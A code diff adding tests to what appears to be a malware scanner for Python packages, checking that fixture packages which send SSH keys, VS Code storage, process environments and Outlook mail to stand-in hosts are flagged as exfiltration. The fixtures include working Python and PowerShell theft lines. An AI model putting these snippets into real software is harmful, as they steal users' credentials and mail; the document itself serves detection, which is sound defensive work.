@@ -1193,3 +1193,62 @@ test('the log-in of the program of a code host is shown to its own client; an ac
   expect(await of('token', 'token + str(dict(os.environ))')).toMatchObject([{ score: 6 }]);
   expect(await of('token', 'tag + token', 'api.collector.invalid')).toMatchObject([{ score: 6 }]);
 });
+
+test('on call, a key that goes where a file in somebody’s repository says is stolen', async () => {
+  const told = (settings: string, key: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, requests',
+        'def report(items):',
+        `    place = requests.get('${settings}').json()`,
+        `    requests.put(place['address'] + '/in', data=open(os.path.expanduser('${key}')).read())`,
+        '    return sorted(items)',
+      ),
+    });
+  const raw = 'https://raw.githubusercontent.com/example/settings/main/net.json';
+
+  expect(await inspect('exfiltration', told(raw, '~/.ssh/id_rsa'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 4 },
+  ]);
+  // the service of a vendor names the place of an upload
+  const upload = await inspect('exfiltration', told('https://api.storage-of.invalid/uploads', '~/.ssh/id_rsa'));
+  expect(upload.filter(({ score }) => score > 1)).toEqual([]);
+  expect(await inspect('exfiltration', told(raw, '~/notes.txt'))).toEqual([]);
+});
+
+test.each([
+  ["open(os.path.expanduser('~/.config/Code/User/globalStorage/state.vscdb'), 'rb').read()", 'credential files'],
+  ["[open(p).read() for p in glob.glob('/proc/[0-9]*/environ')]", 'credential files'],
+  [
+    "[m.Body for m in Dispatch('Outlook.Application').GetNamespace('MAPI').GetDefaultFolder(6).Items]",
+    'mail of the user',
+  ],
+])('%s is somebody’s', async (data, what) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import glob, os, requests',
+      'from win32com.client import Dispatch',
+      `requests.post('https://in.metrics.invalid/k', json=${data})`,
+    ),
+  });
+
+  const [finding] = await inspect('exfiltration', file);
+
+  expect(finding).toMatchObject({ class: 'malware', score: 10, context: 'import', line: 3 });
+  expect(finding?.message).toContain(what);
+});
+
+test('a file in the home that PowerShell is told to send is sent; a report of the program’s own is not', async () => {
+  const send = (path: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import subprocess',
+        `subprocess.run(['powershell', '-c', 'Invoke-RestMethod -Uri https://in.metrics.invalid/k -Method Post -InFile ${path}'])`,
+      ),
+    });
+
+  expect(await inspect('exfiltration', send('$env:USERPROFILE\\\\.ssh\\\\id_rsa'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 2 },
+  ]);
+  expect(await inspect('exfiltration', send('report.txt'))).toEqual([]);
+});
